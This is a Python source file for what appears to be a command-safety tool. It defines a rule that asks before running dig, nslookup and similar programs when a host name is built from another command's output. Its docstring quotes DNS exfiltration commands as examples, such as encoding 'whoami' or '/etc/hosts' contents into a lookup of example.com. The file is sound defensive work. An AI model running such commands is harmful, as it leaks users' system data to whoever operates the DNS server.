"""A quiet way out: names that carry data to a DNS server."""

from __future__ import annotations

import re

from snaphook.providers.guard.judgement import GuardAnswer
from snaphook.providers.guard.rules.rule import Rule, RuleContext
from snaphook.shell.facts import Call, Span, TextOrigin


def objects_to(call: Call, _scene: RuleContext) -> Span | None:
    """Point at a host name made of what another command prints.

    Asks: dig $(whoami).example.com
    Asks: nslookup "$(head -1 /etc/hosts | base64).example.com"
    Allows: dig example.com
    Allows: dig +short $(hostname)
    Allows: ping -c1 $HOST
    """
    for arg in call.args:
        if arg.origin & TextOrigin.SUBSTITUTION and re.search(r"\.[a-z]{2,}\.?$", arg.value):
            return arg.span
    return None


RULE = Rule(
    id="leaks.names",
    answer=GuardAnswer.ASK,
    says="sends command output in a DNS query",
    why="the operator of the DNS server can read it",
    instead="Look up a fixed name.",
    programs=("dig", "nslookup", "host", "drill", "ping", "kdig", "resolvectl"),
    objects_to=objects_to,
)
